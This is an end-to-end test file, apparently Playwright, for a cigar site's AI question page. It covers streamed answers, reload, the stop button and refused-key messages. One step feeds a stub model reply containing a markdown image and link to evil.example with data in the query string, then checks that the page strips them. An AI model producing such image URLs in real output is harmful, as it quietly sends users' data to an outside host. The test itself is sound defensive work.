import { expect, rest } from './fixtures.ts'
import { signUpMember } from './members.ts'
import { test } from './with-model.ts'

const beetles = 'How do I freeze cigars against beetles?'
const words = (count: number) => `${'slow and easy '.repeat(count / 3).trim()}.`

test(
  'a model answers word by word, goes on through a reload, stops at once, and nothing of it leaves the page',
  rest,
  async ({ page, model }) => {
    model.reply = 'Slow and easy.'
    await signUpMember(page, 'asker')
    // The first question to a server that has just started waits until the articles are indexed.
    await page.request.post('/api/ask', { data: { question: 'how do i cut a robusto' }, timeout: 60_000 })
    await page.goto('/dashboard/ask')
    const field = page.getByLabel('Your question')
    const response = page.getByRole('region', { name: "SMU's Response" })
    const said = response.getByRole('status').first()
    const recent = page.getByRole('complementary', { name: 'Recent Conversations' })

    await test.step('a reload follows the answer, which is asked and stored once', async () => {
      model.calls.length = 0
      model.wordMilliseconds = 40
      model.reply = words(120)
      await field.fill(beetles)
      await field.press('Enter')
      await expect(said).toContainText('slow and easy slow')
      await page.reload()
      await expect(said).toHaveText(words(120), { timeout: 20_000 })
      await expect(recent.getByText(beetles)).toHaveCount(1)
      expect(model.calls).toHaveLength(1)
    })

    await test.step('the stop button ends the call of the model', async () => {
      model.reply = words(390)
      await field.fill('How do I know that I have tobacco beetles?')
      await field.press('Enter')
      await expect(said).toContainText('slow and easy slow')
      await page.getByRole('button', { name: 'Stop', exact: true }).click()
      await expect.poll(() => model.abandoned, { timeout: 1_000 }).toBe(1)
      await expect(response.getByText('Stopped.')).toBeVisible()
      await expect(recent.getByText('· Stopped')).toHaveCount(1)
    })

    await test.step('a picture elsewhere is dropped', async () => {
      model.wordMilliseconds = 0
      model.reply = 'Bag them. ![x](https://evil.example/?d=beetles) [Press](https://evil.example/) it.'
      await field.fill(beetles)
      await field.press('Enter')
      await expect(said).toHaveText('Bag them. Press it.')
      await expect(said.locator('img, a')).toHaveCount(0)
    })

    await test.step('a refused key is told as what it means', async () => {
      model.behavior = 'refuses the key'
      await field.fill(beetles)
      await field.press('Enter')
      await expect(response).toContainText('Arturo could not be reached, so this is the standard text.')
      expect(await page.content()).not.toContain('CANARY')
    })
  },
)
